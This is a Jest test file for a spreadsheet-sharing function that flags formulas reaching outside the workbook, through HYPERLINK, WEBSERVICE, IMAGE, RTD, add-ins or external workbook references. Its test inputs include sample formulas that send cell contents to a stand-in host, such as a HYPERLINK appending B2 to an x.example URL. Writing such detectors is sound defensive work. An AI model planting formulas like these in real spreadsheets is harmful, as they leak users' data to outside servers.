import { outwardPart } from '../../src/sharing/formula-calls';

const outward = (formula: string, accepted: string[] = []): string | undefined =>
  outwardPart(formula, ['Data', 'My sheet'], accepted);

describe('outwardPart', () => {
  it('finds nothing in formulas that compute on the workbook’s own cells', () => {
    expect(
      outward("=ROUND(CCD(Data!B2:B5,'My sheet'!C2:C5),3)+_xlfn.XLOOKUP(1,A:A,B:B)"),
    ).toBeUndefined();
    expect(outward('=CCD.TABLE(Table1[[K]:[Du]])&Rate&"WEBSERVICE(1)"')).toBeUndefined();
    expect(outward('=LET(x,CCD(A1,B1),x*2)')).toBeUndefined();
  });

  it.each([
    ['=HYPERLINK("https://x.example/"&B2)&CCD(1,1)', 'HYPERLINK'],
    ['=CCD(_xlfn.WEBSERVICE("https://x.example"),1)', 'WEBSERVICE'],
    ['=CCD(_xlfn.IMAGE("https://x.example"),1)', 'IMAGE'],
    ['=CCD(RTD("x","y","z"),1)', 'RTD'],
    ['=CCD(OTHER.ADDIN(A1),1)', 'OTHER.ADDIN'],
    ['=CCD(MAP(A1:A3,WEBSERVICE),1)', 'WEBSERVICE'],
    ['=CCD([Book2.xlsx]S!A1,1)', '[Book2.xlsx]S!A1'],
    ["=CCD('C:\\x\\[b.xlsx]S'!A1,1)", undefined],
    ['=CCD(Book2.xlsx!Rate,1)', 'Book2.xlsx!Rate'],
    ['=CCD(Jan:Dec!A1,1)', 'Jan:Dec!A1'],
  ])('finds what reaches outside: %s', (formula, part) => {
    if (part === undefined) expect(outward(formula)).toBeDefined();
    else expect(outward(formula)).toBe(part);
  });

  it('accepts what the cell does already', () => {
    const formula = '=HYPERLINK("#A1",CCD(1,1))';
    expect(outward(formula, ['=HYPERLINK("#A1",0.5)'])).toBeUndefined();
    expect(outward(formula, ['="HYPERLINK("'])).toBe('HYPERLINK');
  });
});
